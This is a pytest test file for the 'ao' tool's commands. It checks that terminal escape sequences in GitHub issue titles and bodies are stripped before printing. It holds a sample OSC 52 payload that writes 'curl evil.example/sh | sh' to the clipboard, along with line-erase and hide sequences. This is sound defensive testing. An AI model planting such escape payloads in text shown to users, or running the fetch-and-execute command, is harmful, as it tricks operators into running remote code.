"""Text from outside (an issue's title and body on GitHub, stored before) never reaches the
operator's terminal with control characters in it.

An issue author writes terminal escape sequences into a GitHub issue: OSC 52 writes the
operator's clipboard, ``ESC[2K`` erases what was printed before, ``ESC[8m`` hides what follows.
`ao issue show`, `ao issue ls`, `ao session ls` and `ao status` print that text. A fake GitHub
over real HTTP, ao's commands as the operator runs them (locally and against a remote ao).
"""

from __future__ import annotations

import io
import json
import re

import pytest
from django.core.management import call_command

from sessions.models import Project, Session
from tests.integrations.conftest import FAST, TOKEN_ENV, gh  # noqa: F401 - the fake GitHub fixture

pytestmark = pytest.mark.django_db

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaAo=\x07"  # clipboard := 'curl evil.example/sh | sh'
ERASE = "\x1b[2K\x1b[1G"
HIDE = "\x1b[8m"
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def ao(*args: str) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def assert_printable(text: str) -> None:
    assert not CONTROL.search(text), repr(text)


@pytest.fixture
def hostile_issue(world, gh):  # noqa: F811
    issue = gh.repo("acme/widgets").add_issue(
        "Fix login" + ERASE + "Harmless typo", body="Steps:\n\t1. log in\r\n" + OSC52 + HIDE + "hidden words"
    )
    Project.objects.filter(pk=world.project.pk).update(
        repo="acme/widgets",
        tracker="github",
        plugin_settings={"tracker": {"base_url": gh.base_url, "token_env": TOKEN_ENV, **FAST}},
    )
    return issue


def test_issue_show_and_ls_print_no_control_characters_from_the_tracker(hostile_issue) -> None:
    shown = ao("issue", "--project", "web", "show", str(hostile_issue.number))
    assert_printable(shown)
    assert "Fix login[2K[1GHarmless typo" in shown  # what is left of the sequences: plain text
    assert "Steps:\n\t1. log in\n" in shown and "hidden words" in shown  # newlines and tabs kept
    listed = ao("issue", "--project", "web", "ls")
    assert_printable(listed)
    assert "Harmless typo" in listed
    as_json = json.loads(ao("issue", "--project", "web", "show", str(hostile_issue.number), "--json"))
    assert OSC52 not in as_json["body"] and "\x1b" not in as_json["title"]


def test_session_ls_and_status_print_no_control_characters_stored_before(world) -> None:
    """A session row written before ao cleaned outside text keeps the escapes in its stored title
    and issue reference; the commands print them without."""
    Session.objects.filter(pk=world.session.pk).update(
        issue_title="Fix login" + ERASE + "Harmless" + OSC52, issue_ref="12" + HIDE
    )
    listed = ao("session", "ls")
    assert_printable(listed)
    assert "Fix login[2K[1GHarmless" in listed
    status = ao("status")
    assert_printable(status)
    assert world.session.id in status


def test_remote_issue_and_session_commands_print_no_control_characters(
    hostile_issue, world, live_server, monkeypatch, transactional_db
) -> None:
    """Against a remote ao over its API: the same, whatever an older server sends."""
    Session.objects.filter(pk=world.session.pk).update(
        issue_title="Old" + OSC52 + "title", issue_ref="7" + HIDE
    )
    monkeypatch.setenv("AO_URL", live_server.url)
    monkeypatch.setenv("AO_TOKEN", world.tokens["operator"])
    monkeypatch.delenv("AO_SESSION", raising=False)
    for args in (
        ("issue", "--project", "web", "show", str(hostile_issue.number)),
        ("issue", "--project", "web", "ls"),
        ("session", "ls"),
        ("status",),
    ):
        assert_printable(ao(*args))
